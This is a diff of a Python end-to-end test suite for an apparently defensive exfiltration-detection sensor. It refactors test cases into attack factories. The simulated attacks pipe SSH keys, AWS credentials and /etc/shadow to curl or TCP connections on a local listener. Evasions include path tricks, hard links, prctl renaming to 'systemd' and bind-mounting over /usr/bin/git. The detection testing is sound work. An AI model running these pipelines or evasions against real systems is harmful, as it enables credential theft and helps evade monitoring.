@@ -48,6 +48,13 @@ aws_access_key_id = AKIABARBWIREE2ETEST0
 aws_secret_access_key = barbwire/e2e/dummy/secret/not+a+real+one0000
 """
 
+# Which rules the cases that load the seed's file run with: "case" (each case's own),
+# or "builtin", set by baseline_test.py, which runs the attack cases together under
+# the built-in rules and a learned baseline (parent_named_systemd and
+# parent_prctl_systemd then run under the built-in rules, whose legit_parents name
+# systemd too).
+RULES = "case"
+
 FAMILY_SECTION = ("\nfamily:\n  self: 0\n  ancestor: 0\n  descendant: 0\n"
                   "  sibling: 0\n  session: -1\n")
 
@@ -150,11 +157,10 @@ def settle(sensor, leader, timeout=h.ALERT_TIMEOUT):
 
 # --------------------------------------------------------------------------- 1, 2: shells
 
-def case_pipeline_sibling():
+def attack_pipeline_sibling():
     """1. bash -c 'cat $HOME/.ssh/id_rsa | curl --data-binary @- http://127.0.0.1:PORT/':
     exactly one alert, for curl, relation sibling, reader cat (pid from the recorded exec),
     and the listener got the key bytes."""
-    h.require_root_and_sensor()
     curl, cat, bash = which_real("curl"), which_real("cat"), which_real("bash")
     homes = {}
 
@@ -162,7 +168,7 @@ def case_pipeline_sibling():
         homes["home"] = make_home(ws)
         return None                                          # built-in rules
 
-    with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         home = homes["home"]
         key = os.path.join(home, ".ssh", "id_rsa")
         sh = h.Shell(f'cat $HOME/.ssh/id_rsa | curl -sS -o /dev/null --max-time 10 '
@@ -170,7 +176,7 @@ def case_pipeline_sibling():
         sh.wait()
         check(lst.received(DUMMY_KEY.encode()), f"the listener did not receive the key bytes: {lst.bodies()}")
         settle(sensor, sh.leader)
-        sensor.stop_cleanly()
+        yield
         a = one_alert(sensor.alerts_in_session(sh.leader), f"session {sh.leader}", sensor)
         show("pipeline", a)
         check_proc(a.get("process"), "process", a, comm="curl", exe=curl)
@@ -180,7 +186,8 @@ def case_pipeline_sibling():
         # who cat and curl were, from the recorded exec events
         bash_pid = a["parent"]["pid"]
         ev = trace_events(ws)
-        execs = [e for e in ev if e.get("kind") == "exec" and e.get("ppid") == bash_pid]
+        execs = [e for e in ev if e.get("kind") == "exec" and e.get("ppid") == bash_pid
+                 and e.get("sid") == sh.leader]
         cats = [e["pid"] for e in execs if e.get("comm") == "cat"]
         curls = [e["pid"] for e in execs if e.get("comm") == "curl"]
         check(len(cats) == 1 and len(curls) == 1, f"trace: expected one cat and one curl exec under bash "
@@ -189,12 +196,12 @@ def case_pipeline_sibling():
         check_proc(a.get("process"), "process", a, pid=curls[0])
         check(any(e.get("kind") == "open" and e.get("path") == key for e in trace_events(ws, cats[0])),
               f"trace: no open of {key} by cat {cats[0]}")
+    return h.Attack("pipeline_sibling", body, prepare, listener="http", record=True)
 
 
-def case_command_substitution():
+def attack_command_substitution():
     """2. bash -c 'k=$(cat $HOME/.aws/credentials); curl -d "$k" http://127.0.0.1:PORT/':
     exactly one alert, sender curl, reader cat, relation a family one (not self)."""
-    h.require_root_and_sensor()
     curl, cat = which_real("curl"), which_real("cat")
     homes = {}
 
@@ -202,7 +209,7 @@ def case_command_substitution():
         homes["home"] = make_home(ws)
         return None
 
-    with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         home = homes["home"]
         creds = os.path.join(home, ".aws", "credentials")
         sh = h.Shell(f'k=$(cat $HOME/.aws/credentials); curl -sS -o /dev/null --max-time 10 '
@@ -211,7 +218,7 @@ def case_command_substitution():
         check(lst.received(DUMMY_AWS.strip().encode()),
               f"the listener did not receive the credentials: {lst.bodies()}")
         settle(sensor, sh.leader)
-        sensor.stop_cleanly()
+        yield
         a = one_alert(sensor.alerts_in_session(sh.leader), f"session {sh.leader}", sensor)
         show("command substitution", a)
         print(f"relation chosen for $(cat ...); curl: {a.get('relation')!r}")
@@ -225,6 +232,7 @@ def case_command_substitution():
         check(a["reader"]["pid"] in cat_pids, f"reader.pid {a['reader']['pid']} is not the cat exec'd in "
                                               f"session {sh.leader} ({sorted(cat_pids)}); {ctx(a)}")
         check(a["reader"]["pid"] != a["process"]["pid"], f"reader and sender are one process; {ctx(a)}")
+    return h.Attack("command_substitution", body, prepare, listener="http", record=True)
 
 
 # --------------------------------------------------------------------------- 3: ancestor
@@ -247,11 +255,10 @@ def indent(code, n):
     return "".join(" " * n + l + "\n" for l in code.splitlines())
 
 
-def case_parent_reads_child_connects():
+def attack_parent_reads_child_connects():
     """3a. python reads /etc/shadow, forks, the child connects: one alert for the child,
     relation ancestor, reader the parent."""
-    h.require_root_and_sensor()
-    with h.scenario(BW, listener="tcp") as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         code = FORK_CHILD_CONNECTS.format(read=h.read_snippet(SHADOW),
                                           connect=indent(h.tcp_connect_snippet("127.0.0.1", lst.port), 8))
         actor = h.Actor(code, new_session=True)
@@ -259,21 +266,22 @@ def case_parent_reads_child_connects():
         child = int(rep["child"])
         check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the child's connection")
         settle(sensor, actor.timeout_pid)
-        sensor.stop_cleanly()
-        check(sensor.alerts(actor.pid) == [], f"the parent made no network call: {sensor.alerts(actor.pid)}")
+        yield
+        mine = [a for a in sensor.alerts(actor.pid) if h.in_session(a, actor.timeout_pid)]
+        check(mine == [], f"the parent made no network call: {mine}")
         a = one_alert(sensor.alerts_in_session(actor.timeout_pid), f"session {actor.timeout_pid}", sensor)
         show("ancestor", a)
         check_proc(a.get("process"), "process", a, pid=child, exe=h.PY_REAL)
         check_proc(a.get("parent"), "parent", a, pid=actor.pid, exe=h.PY_REAL)
         check_proc(a.get("reader"), "reader", a, pid=actor.pid, exe=h.PY_REAL)
         check_common(a, path=SHADOW, category=CRED, port=lst.port, reader_pid=actor.pid, relation="ancestor")
+    return h.Attack("parent_reads_child_connects", body, listener="tcp")
 
 
-def case_reader_exits_before_connect():
+def attack_reader_exits_before_connect():
     """3b. As 3a, but the parent (the reader) exits first; the child connects only once it
     has been reparented (its getppid() changed): still one alert, relation ancestor."""
-    h.require_root_and_sensor()
-    with h.scenario(BW, listener="tcp") as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         code = (h.read_snippet(SHADOW)
                 + "parent = os.getpid()\n"
                   "pid = os.fork()\n"
@@ -297,7 +305,7 @@ def case_reader_exits_before_connect():
         check(int(rep["new_ppid"]) != actor.pid, f"child was not reparented: {rep}")
         check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the child's connection")
         settle(sensor, actor.timeout_pid)
-        sensor.stop_cleanly()
+        yield
         a = one_alert(sensor.alerts(child), f"child pid {child}", sensor)
         show("exited ancestor", a)
         check(h.in_session(a, actor.timeout_pid), f"ancestry does not reach session leader "
@@ -307,15 +315,15 @@ def case_reader_exits_before_connect():
         check_proc(a.get("process"), "process", a, pid=child, exe=h.PY_REAL)
         check_proc(a.get("reader"), "reader", a, pid=actor.pid, exe=h.PY_REAL)
         check_common(a, path=SHADOW, category=CRED, port=lst.port, reader_pid=actor.pid, relation="ancestor")
+    return h.Attack("reader_exits_before_connect", body, listener="tcp")
 
 
 # --------------------------------------------------------------------------- 4: thread
 
-def case_thread_connects():
+def attack_thread_connects():
     """4. The main thread reads /etc/shadow, another thread of the process connects:
     one alert, relation self, process.pid the process, process.tid the thread."""
-    h.require_root_and_sensor()
-    with h.scenario(BW, listener="tcp") as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         code = ("import threading\n"
                 + h.read_snippet(SHADOW)
                 + "def net():\n"
@@ -330,49 +338,61 @@ def case_thread_connects():
         check(tid != actor.pid, f"the connecting thread's id {tid} equals the pid")
         check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the thread's connection")
         settle(sensor, actor.timeout_pid)
-        sensor.stop_cleanly()
-        check(sensor.alerts(tid) == [], f"an alert names the thread id as process.pid: {sensor.alerts(tid)}")
+        yield
+        by_tid = [a for a in sensor.alerts(tid) if h.in_session(a, actor.timeout_pid)]
+        check(by_tid == [], f"an alert names the thread id as process.pid: {by_tid}")
         a = one_alert(sensor.alerts_in_session(actor.timeout_pid), f"session {actor.timeout_pid}", sensor)
         show("thread", a)
         check_proc(a.get("process"), "process", a, pid=actor.pid, exe=h.PY_REAL)
         check(a["process"].get("tid") == tid, f"process.tid {a['process'].get('tid')} != thread {tid}; {ctx(a)}")
         check_proc(a.get("reader"), "reader", a, pid=actor.pid)
         check_common(a, path=SHADOW, category=CRED, port=lst.port, reader_pid=actor.pid, relation="self")
+    return h.Attack("thread_connects", body, listener="tcp")
 
 
 # --------------------------------------------------------------------------- 5: evasions
 
 def read_then_connect(sensor, lst, path, home=None):
-    """A python actor in its own session opens `path` and connects; returns (actor, its one alert)."""
+    """A python actor in its own session opens `path` and connects; returns the actor,
+    once its alert had time to arrive."""
     actor = h.Actor(h.read_snippet(path) + h.tcp_connect_snippet("127.0.0.1", lst.port),
                     home=home, new_session=True)
     rep = actor.run()
     check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the actor's connection")
     settle(sensor, actor.timeout_pid)
-    sensor.stop_cleanly()
+    return actor
+
+
+def alert_of_reader(sensor, actor):
+    """After the sensor stopped: the one alert of read_then_connect's actor's session,
+    sent and read by the actor."""
     a = one_alert(sensor.alerts_in_session(actor.timeout_pid), f"session {actor.timeout_pid}", sensor)
     check_proc(a.get("process"), "process", a, pid=actor.pid, exe=h.PY_REAL)
     check_proc(a.get("reader"), "reader", a, pid=actor.pid)
     check_proc(a.get("parent"), "parent", a, pid=actor.bash_pid, comm="bash")
-    return actor, a
+    return a
 
 
-def case_path_dotdot_slashes():
+def attack_path_dotdot_slashes():
     """5a. open('/etc/../etc//shadow'): the alert names /etc/shadow."""
-    h.require_root_and_sensor()
-    with h.scenario(BW, listener="tcp") as (ws, sensor, lst):
-        _, a = read_then_connect(sensor, lst, "/etc/../etc//shadow")
+    def body(ws, sensor, lst):
+        actor = read_then_connect(sensor, lst, "/etc/../etc//shadow")
+        yield
+        a = alert_of_reader(sensor, actor)
         show("dotdot", a)
         check_common(a, path=SHADOW, category=CRED, port=lst.port, relation="self")
+    return h.Attack("path_dotdot_slashes", body, listener="tcp")
 
 
-def case_proc_self_root():
+def attack_proc_self_root():
     """5b. open('/proc/self/root/etc/shadow'): the alert names /etc/shadow."""
-    h.require_root_and_sensor()
-    with h.scenario(BW, listener="tcp") as (ws, sensor, lst):
-        _, a = read_then_connect(sensor, lst, "/proc/self/root/etc/shadow")
+    def body(ws, sensor, lst):
+        actor = read_then_connect(sensor, lst, "/proc/self/root/etc/shadow")
+        yield
+        a = alert_of_reader(sensor, actor)
         show("proc self root", a)
         check_common(a, path=SHADOW, category=CRED, port=lst.port, relation="self")
+    return h.Attack("proc_self_root", body, listener="tcp")
 
 
 def make_hard_link(target, dirs, name):
@@ -389,10 +409,9 @@ def make_hard_link(target, dirs, name):
     raise h.Failure(f"could not hard-link {target} anywhere: {errors}")
 
 
-def case_hardlink_shadow():
+def attack_hardlink_shadow():
     """5c. A hard link to /etc/shadow under an innocent name (in the workspace, else /var/tmp,
     /root, /etc): the alert's file is credential access and file.same_inode_as is /etc/shadow."""
-    h.require_root_and_sensor()
     links = {}
 
     def prepare(ws):
@@ -403,11 +422,13 @@ def case_hardlink_shadow():
         links["link"] = link
         return None
 
-    with h.scenario(BW, prepare, listener="tcp") as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         link = links["link"]
         check(os.stat(link).st_ino == os.stat(SHADOW).st_ino, "the hard link is not /etc/shadow's inode")
         print(f"hard link: {link}")
-        _, a = read_then_connect(sensor, lst, link)
+        actor = read_then_connect(sensor, lst, link)
+        yield
+        a = alert_of_reader(sensor, actor)
         show("hardlink shadow", a)
         f = a.get("file") or {}
         st = os.stat(SHADOW)
@@ -417,13 +438,13 @@ def case_hardlink_shadow():
         check(f.get("ino") == st.st_ino and f.get("dev") == st.st_dev,
               f"file dev/ino {f.get('dev')}/{f.get('ino')} != /etc/shadow's {st.st_dev}/{st.st_ino}; {ctx(a)}")
         check(a.get("relation") == "self", f"relation {a.get('relation')!r} != 'self'; {ctx(a)}")
+    return h.Attack("hardlink_shadow", body, prepare, listener="tcp")
 
 
-def case_hardlink_ssh_key():
+def attack_hardlink_ssh_key():
     """5d. A config of the built-in rules plus the key's absolute path as a pattern (so the
     rules name the file), and a hard link to the key in another directory: the alert's
     file is an ssh key and file.same_inode_as is the key's path."""
-    h.require_root_and_sensor()
     paths = {}
 
     def prepare(ws):
@@ -440,10 +461,12 @@ def case_hardlink_ssh_key():
         paths.update(home=home, key=key, link=link)
         return json.dumps(rules, indent=1) + "\n"       # JSON is YAML
 
-    with h.scenario(BW, prepare, listener="tcp") as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         key, link = paths["key"], paths["link"]
         print(f"hard link: {link} -> inode of {key}")
-        _, a = read_then_connect(sensor, lst, link, home=paths["home"])
+        actor = read_then_connect(sensor, lst, link, home=paths["home"])
+        yield
+        a = alert_of_reader(sensor, actor)
         show("hardlink ssh key", a)
         f = a.get("file") or {}
         st = os.stat(key)
@@ -452,6 +475,7 @@ def case_hardlink_ssh_key():
         check(f.get("ino") == st.st_ino and f.get("dev") == st.st_dev,
               f"file dev/ino {f.get('dev')}/{f.get('ino')} != the key's {st.st_dev}/{st.st_ino}; {ctx(a)}")
         check(a.get("relation") == "self", f"relation {a.get('relation')!r} != 'self'; {ctx(a)}")
+    return h.Attack("hardlink_ssh_key", body, prepare, listener="tcp")
 
 
 PRCTL_SYSTEMD = ("import ctypes\n"
@@ -483,12 +507,18 @@ def parent_runs_reader(sensor, lst, parent_python, prelude=""):
     return actor, rep, child
 
 
+def child_alerts(sensor, actor, child):
+    """The alerts of parent_runs_reader's child, in the actor's session."""
+    return [a for a in sensor.alerts(child) if h.in_session(a, actor.timeout_pid)]
+
+
 def check_trusted_name_child(sensor, actor, child, lst, baseline, what):
-    a = one_alert(sensor.alerts(child), f"child pid {child} ({what})", sensor)
+    a = one_alert(child_alerts(sensor, actor, child), f"child pid {child} ({what})", sensor)
     show(what, a)
     check_proc(a.get("process"), "process", a, pid=child, exe=h.PY_REAL)
     check_proc(a.get("parent"), "parent", a, pid=actor.pid)
-    check_common(a, path=SHADOW, category=SEED_CRED, port=lst.port, reader_pid=child, relation="self")
+    check_common(a, path=SHADOW, category=SEED_CRED if RULES == "case" else CRED, port=lst.port,
+                 reader_pid=child, relation="self")
     legit = [x for x in a.get("score_breakdown") or [] if x.get("reason", "").startswith("legit")]
     check(legit == [], f"{what}: a name alone lowered the score: {legit}; {ctx(a)}")
     check(a.get("score") == baseline.get("score"),
@@ -498,11 +528,19 @@ def check_trusted_name_child(sensor, actor, child, lst, baseline, what):
 
 
 def trusted_name_prepare(names):
-    """Seed config with a family section; copies of python named `names` in the workspace."""
-    seed = h.read_file(os.path.join(ROOT, "test", "config", "seed-barbwire-config.yml"))
-    check("program: \"systemd\"\n    modifier: -2" in seed,
-          "the seed config no longer has legit_parents systemd -2; update this test")
-    check("\nfamily:" not in seed, "the seed config has a family section now; update this test")
+    """Seed config with a family section (the built-in rules when RULES is "builtin");
+    copies of python named `names` in the workspace."""
+    if RULES == "builtin":
+        legit = [r for r in h.builtin_rules_json(ROOT)["legit_parents"] if r.get("program") == "systemd"]
+        check(len(legit) == 1 and legit[0]["modifier"] < 0,
+              f"the built-in rules no longer lower the score for a parent called systemd: {legit}; update this test")
+        rules = None
+    else:
+        seed = h.read_file(os.path.join(ROOT, "test", "config", "seed-barbwire-config.yml"))
+        check("program: \"systemd\"\n    modifier: -2" in seed,
+              "the seed config no longer has legit_parents systemd -2; update this test")
+        check("\nfamily:" not in seed, "the seed config has a family section now; update this test")
+        rules = seed + FAMILY_SECTION
     copies = {}
 
     def prepare(ws):
@@ -512,46 +550,48 @@ def trusted_name_prepare(names):
             shutil.copy2(h.PY_REAL, p)
             os.chmod(p, 0o755)
             copies[n] = p
-        return seed + FAMILY_SECTION
+        return rules
     return prepare, copies
 
 
-def case_parent_named_systemd():
+def attack_parent_named_systemd():
     """5e. Seed config (legit_parents: systemd -2) with a family section. A copy of python
     at <workspace>/systemd runs a child that reads /etc/shadow and connects: no 'legit parent'
     in the child's score_breakdown, and the same score as under a copy of python with a
     neutral name (pyrunner), which no parent rule names."""
-    h.require_root_and_sensor()
     prepare, copies = trusted_name_prepare(["pyrunner", "systemd"])
-    with h.scenario(BW, prepare, listener="tcp") as (ws, sensor, lst):
+
+    def body(ws, sensor, lst):
         base_actor, _, base_child = parent_runs_reader(sensor, lst, copies["pyrunner"])
         fake_actor, _, fake_child = parent_runs_reader(sensor, lst, copies["systemd"])
         time.sleep(1.0)
-        sensor.stop_cleanly()
-        base = one_alert(sensor.alerts(base_child), f"baseline child {base_child}", sensor)
+        yield
+        base = one_alert(child_alerts(sensor, base_actor, base_child), f"baseline child {base_child}", sensor)
         show("baseline (parent pyrunner)", base)
         check_proc(base.get("parent"), "parent", base, pid=base_actor.pid, comm="pyrunner", exe=copies["pyrunner"])
         a = check_trusted_name_child(sensor, fake_actor, fake_child, lst, base, "parent named systemd")
         check_proc(a.get("parent"), "parent", a, comm="systemd", exe=copies["systemd"])
+    return h.Attack("parent_named_systemd", body, prepare, listener="tcp")
 
 
-def case_parent_prctl_systemd():
+def attack_parent_prctl_systemd():
     """5f. As 5e, but the parent calls prctl(PR_SET_NAME, "systemd") before it forks and
     execs the child: no 'legit parent', the same score as without the prctl."""
-    h.require_root_and_sensor()
     prepare, copies = trusted_name_prepare(["pyrunner"])
-    with h.scenario(BW, prepare, listener="tcp") as (ws, sensor, lst):
+
+    def body(ws, sensor, lst):
         base_actor, _, base_child = parent_runs_reader(sensor, lst, copies["pyrunner"])
         fake_actor, rep, fake_child = parent_runs_reader(sensor, lst, copies["pyrunner"], prelude=PRCTL_SYSTEMD)
         check(rep.get("comm") == "systemd", f"the parent did not rename itself: {rep}")
         time.sleep(1.0)
-        sensor.stop_cleanly()
-        base = one_alert(sensor.alerts(base_child), f"baseline child {base_child}", sensor)
+        yield
+        base = one_alert(child_alerts(sensor, base_actor, base_child), f"baseline child {base_child}", sensor)
         show("baseline (parent pyrunner)", base)
         a = check_trusted_name_child(sensor, fake_actor, fake_child, lst, base, "parent prctl systemd")
         print(f"the renamed parent shows as comm {a['parent'].get('comm')!r}")
         check(a["parent"].get("comm") in ("pyrunner", "systemd"), f"parent.comm; {ctx(a)}")
         check_proc(a.get("parent"), "parent", a, exe=copies["pyrunner"])
+    return h.Attack("parent_prctl_systemd", body, prepare, listener="tcp")
 
 
 # --------------------------------------------------------------------------- 6: no cross-family alert
@@ -631,7 +671,7 @@ def case_unrelated_sessions():
 DUMMY_GIT_CREDS = "https://barbwire-e2e:dummy-token-not-real@git.example.invalid\n"
 
 
-def case_trusted_binary_copy():
+def attack_trusted_binary_copy():
     """7. The built-in rules trust /usr/bin/git (root-owned, 0755) for ~/.git-credentials
     by path alone. Three sessions pipe `git hash-object ~/.git-credentials` into curl:
       A. /usr/bin/git itself: no alert, although the recording shows git's open;
@@ -640,7 +680,6 @@ def case_trusted_binary_copy():
       C. that copy, owned by nobody, bind-mounted over /usr/bin/git in a private mount
          namespace, so the kernel path IS /usr/bin/git: one alert, because a path alone
          trusts only a root-owned file that group and others cannot write."""
-    h.require_root_and_sensor()
     git, curl = which_real("git"), which_real("curl")
     unshare, mount = which_real("unshare"), which_real("mount")
     check(git == "/usr/bin/git", f"git is {git}, not the /usr/bin/git the built-in rules trust")
@@ -664,7 +703,7 @@ def case_trusted_binary_copy():
         paths.update(home=home, creds=creds, copy=copy)
         return None                           # built-in rules
 
-    with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
+    def body(ws, sensor, lst):
         home, creds, copy = paths["home"], paths["creds"], paths["copy"]
         send = f'| {curl} -sS -o /dev/null --max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/'
         env = shell_env(home)
@@ -686,7 +725,7 @@ def case_trusted_binary_copy():
         settle(sensor, c_sh.leader)
         settle(sensor, b_sh.leader)
         time.sleep(1.0)
-        sensor.stop_cleanly()
+        yield
         ev = trace_events(ws)
 
         def git_readers(leader):
@@ -727,9 +766,32 @@ def case_trusted_binary_copy():
         check_proc(c.get("reader"), "reader", c, pid=rc[0][0], exe=git)
         check((c.get("reader") or {}).get("sha256") == h.sha256_of(git),
               f"session C: the reader's sha256 is not the copy's (git's bytes); {ctx(c)}")
+    return h.Attack("trusted_binary_copy", body, prepare, listener="http", record=True)
 
 
 # --------------------------------------------------------------------------- driver
+
+# The alerting cases, each a factory attack_NAME() of an h.Attack (set up and attack,
+# then, once the sensor stopped, check); case_NAME runs it under a sensor of its own.
+# baseline_test.py runs them all together under `run --baseline` (h.run_attacks_together).
+# unrelated_sessions is not one: it is about an alert that must not happen.
+ATTACKS = ("pipeline_sibling", "command_substitution", "parent_reads_child_connects",
+           "reader_exits_before_connect", "thread_connects", "path_dotdot_slashes", "proc_self_root",
+           "hardlink_shadow", "hardlink_ssh_key", "parent_named_systemd", "parent_prctl_systemd",
+           "trusted_binary_copy")
+
+
+def _attack_case(factory):
+    def run():
+        h.require_root_and_sensor()
+        h.run_attack(BW, factory())
+    run.__doc__ = factory.__doc__
+    return run
+
+
+for _name in ATTACKS:
+    globals()["case_" + _name] = _attack_case(globals()["attack_" + _name])
+
 
 if __name__ == "__main__":
     sys.exit(h.run_cases(globals(), __doc__, "family_test"))
